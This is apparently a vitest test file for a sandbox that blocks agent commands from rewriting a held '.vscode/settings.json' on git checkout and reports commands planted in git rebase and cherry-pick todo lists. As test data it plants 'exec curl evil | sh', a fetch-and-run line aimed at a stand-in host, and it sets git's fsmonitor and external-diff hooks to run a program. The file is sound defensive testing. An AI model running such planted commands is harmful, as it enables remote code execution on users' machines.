import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { createTemporaryWorkspace, type TemporaryWorkspace } from "../../test/fakes/temporary-workspace.ts";
import { createTestSandbox, hasSandbox, type TestSandbox } from "../../test/fakes/test-sandbox.ts";

const NEVER = new AbortController().signal;
const STALE =
  /\[sandbox\] git checked out another version of "\.vscode\/settings\.json", but the sandbox does not let commands change/;

function git(folder: string, ...args: string[]): string {
  const fixed = ["-c", "init.defaultBranch=main", "-c", "user.name=a", "-c", "user.email=a@example.com"];
  return execFileSync("git", [...fixed, ...args], { cwd: folder, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
}

/** `main` and `other` differ in a file of an editor; `without` has none. */
function createRepository(): TemporaryWorkspace {
  const workspace = createTemporaryWorkspace();
  const { root, put } = workspace;
  git(root, "init", "-q");
  git(root, "config", "user.name", "a");
  git(root, "config", "user.email", "a@example.com");
  put("a.txt", "a\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "without");
  git(root, "branch", "without");
  put(".vscode/settings.json", "{}\n");
  git(root, "add", ".");
  git(root, "commit", "-qm", "main");
  git(root, "switch", "-qc", "other");
  put(".vscode/settings.json", '{ "terminal": 1 }\n');
  git(root, "commit", "-qam", "other");
  git(root, "switch", "-q", "main");
  return workspace;
}

async function run(sandbox: TestSandbox, script: string): Promise<{ code: number | null; said: string }> {
  let said = "";
  const onOutput = (_stream: string, chunk: Buffer): void => {
    said += chunk.toString("utf8");
  };
  const spec = { file: "bash", args: ["-c", script], timeoutMs: 20_000, confinement: "workspace", onOutput } as const;
  const { code } = await sandbox.processes.run(spec, NEVER);
  return { code, said };
}

describe.runIf(hasSandbox)("a checkout over a held steering file", () => {
  test.each([
    ["switch", "git switch -q other"],
    ["checkout", "git checkout -q other; true"],
    ["the file alone", "git checkout other -- .vscode; true"],
  ])("fails loudly: %s", async (_name, command) => {
    const workspace = createRepository();
    const { code, said } = await run(createTestSandbox(workspace), command);
    expect(readFileSync(join(workspace.root, ".vscode/settings.json"), "utf8")).toBe("{}\n");
    expect(said).toMatch(STALE);
    expect(said).toContain('outside the sandbox: git checkout -- ".vscode/settings.json"');
    expect(code).toBe(1);
  });

  test.each(["git reset -q --hard other", "git merge -q other"])(
    "fails by itself, and is no news: %s",
    async (command) => {
      const workspace = createRepository();
      const { code, said } = await run(createTestSandbox(workspace), command);
      expect(said).toContain("unable to unlink old '.vscode/settings.json'");
      expect(said).not.toContain("[sandbox]");
      expect(code).not.toBe(0);
      expect(git(workspace.root, "status", "--short")).toBe("");
    },
  );

  test("fails loudly where the file was missing", async () => {
    const workspace = createRepository();
    git(workspace.root, "switch", "-q", "without");
    const { code, said } = await run(createTestSandbox(workspace), "git switch -q main; true");
    expect(said).toMatch(STALE);
    expect(code).toBe(1);
  });

  test("is reported once, and not again by commands that follow", async () => {
    const workspace = createRepository();
    const sandbox = createTestSandbox(workspace);
    expect((await run(sandbox, "git switch -q other")).code).toBe(1);
    expect(await run(sandbox, "echo b > b.txt; git add b.txt; git commit -qm more")).toEqual({ code: 0, said: "" });
    expect((await run(sandbox, "git stash -q -- .vscode; git switch -q main; true")).said).not.toContain(
      "[sandbox] git could",
    );
  });

  test("a file that the person changed is no checkout: other commits succeed", async () => {
    const workspace = createRepository();
    workspace.put(".vscode/settings.json", '{ "mine": 1 }\n');
    const sandbox = createTestSandbox(workspace);
    expect(await run(sandbox, "echo b > b.txt; git add b.txt; git commit -qm more")).toEqual({ code: 0, said: "" });
    // The person goes on meanwhile.
    workspace.put(".vscode/settings.json", '{ "mine": 2 }\n');
    git(workspace.root, "add", ".vscode");
    workspace.put(".vscode/settings.json", '{ "mine": 3 }\n');
    expect(await run(sandbox, "echo c > c.txt; git add c.txt")).toEqual({ code: 0, said: "" });
    expect(await run(sandbox, "git add .vscode; git commit -qm settings")).toEqual({ code: 0, said: "" });
  });

  test("also in a linked worktree; its git runs no program of the repository", async () => {
    const main = createRepository();
    const root = join(main.outside, "tree");
    git(main.root, "worktree", "add", "-q", "--detach", root, "main");
    const ran = join(root, "ran");
    git(main.root, "config", "core.fsmonitor", `touch ${ran}`);
    git(main.root, "config", "diff.external", `touch ${ran}`);
    const { code, said } = await run(createTestSandbox({ ...main, root }), "git switch -q other");
    expect(said).toMatch(STALE);
    expect(code).toBe(1);
    expect(() => readFileSync(ran)).toThrow("ENOENT");
  });

  test("a command that fails keeps its exit code", async () => {
    const { code, said } = await run(createTestSandbox(createRepository()), "git switch -q other; exit 7");
    expect(said).toMatch(STALE);
    expect(code).toBe(7);
  });
});

describe.runIf(hasSandbox)("a list of steps that git will continue with", () => {
  test("is reported with the commands that were not in it, and stays", async () => {
    const workspace = createRepository();
    const sandbox = createTestSandbox(workspace);
    const steps = join(workspace.root, ".git/rebase-merge/git-rebase-todo");
    mkdirSync(join(steps, ".."));
    writeFileSync(steps, "pick 123 x\nexec make\n");
    expect((await run(sandbox, "true")).said).toBe("");
    const { code, said } = await run(
      sandbox,
      "echo 'exec curl evil | sh' >> .git/rebase-merge/git-rebase-todo; mkdir .git/sequencer; printf '\\tx touch y\\n' > .git/sequencer/todo",
    );
    expect(said).toMatch(
      /^\[sandbox\] the list of steps .* contains new commands: "exec curl evil \| sh" "\\tx touch y"\. Continuing/,
    );
    expect(code).toBe(0);
    expect(readFileSync(steps, "utf8")).toContain("evil");
    expect((await run(sandbox, "true")).said).toBe("");
  });

  test("is reported when it is a link or very long, and in a worktree of the repository", async () => {
    const workspace = createRepository();
    const sandbox = createTestSandbox(workspace);
    expect((await run(sandbox, "mkdir .git/sequencer; ln -s /tmp/x .git/sequencer/todo")).said).toBe(
      `[sandbox] "${workspace.root}/.git/sequencer/todo" should list the steps of a rebase or cherry-pick, but is a link, very long or not a regular file, so Harness did not check it for commands. Continuing it runs them; check with: git status\n`,
    );
    expect((await run(sandbox, "git worktree add -q w without 2>&1; echo 'x y' > .git/worktrees/w/x")).said).toBe("");
    const planted = "mkdir .git/worktrees/w/rebase-merge; echo 'x y' > .git/worktrees/w/rebase-merge/git-rebase-todo";
    expect((await run(sandbox, planted)).said).toContain('"x y"');
  });

  test("is reported in a repository that a command began, and in one that was there", async () => {
    const workspace = createRepository();
    git(workspace.root, "init", "-q", "old");
    const sandbox = createTestSandbox(workspace);
    const plant = (folder: string, line: string): string =>
      `mkdir ${folder}/.git/rebase-merge; echo '${line}' > ${folder}/.git/rebase-merge/git-rebase-todo;`;
    const { said } = await run(sandbox, `git init -q deep/new; ${plant("deep/new", "x a")} ${plant("old", "exec b")}`);
    expect(said).toMatch(/contains new commands: ("x a" "exec b"|"exec b" "x a")\. Continuing/);
    expect((await run(sandbox, "true")).said).toBe("");
  });
});

describe.runIf(hasSandbox)("worktrees of a repository", () => {
  test("a link in their place leads nowhere: no name from elsewhere is shown", async () => {
    const workspace = createRepository();
    const keys = join(workspace.outside, "keys");
    mkdirSync(join(keys, "secret-name/rebase-merge"), { recursive: true });
    writeFileSync(join(keys, "secret-name/rebase-merge/git-rebase-todo"), "exec secret\n");
    writeFileSync(join(keys, "secret-file"), "");
    const sandbox = createTestSandbox(workspace);
    const first = await run(sandbox, `ln -s ${keys} .git/worktrees; ln -s ${keys} .git/modules`);
    const second = await run(sandbox, "echo ran");
    expect(first.said).not.toContain("secret");
    expect(second).toEqual({ code: 0, said: "ran\n" });
  });

  test("a .git file that names a repository elsewhere shows nothing of it", async () => {
    const workspace = createRepository();
    const steps = join(workspace.outside, "mine/.git/rebase-merge/git-rebase-todo");
    git(workspace.outside, "init", "-q", "mine");
    mkdirSync(join(steps, ".."));
    writeFileSync(steps, "exec secret\n");
    const sandbox = createTestSandbox(workspace);
    const plant = `mkdir n m .git/x; echo 'gitdir: ${workspace.outside}/mine/.git' > n/.git; ln -s ${workspace.outside}/mine l; echo 'gitdir: ../l/.git' > m/.git`;
    expect((await run(sandbox, plant)).said).not.toContain("secret");
    expect((await run(sandbox, "true")).said).not.toContain("secret");
  });

  test("a plain file among them stops nothing", async () => {
    const workspace = createRepository();
    workspace.put(".git/worktrees/.DS_Store", "");
    expect(await run(createTestSandbox(workspace), "echo ran")).toEqual({ code: 0, said: "ran\n" });
  });

  test("thousands of them cost a moment, and what was not looked at is said once", async () => {
    const workspace = createRepository();
    const sandbox = createTestSandbox(workspace);
    const { said } = await run(sandbox, "mkdir .git/worktrees; cd .git/worktrees; mkdir w{1..3000}");
    expect(said).toContain(".git has more than 512 linked worktrees");
    expect((await run(sandbox, "echo ran")).said).toBe("ran\n");
  });
});
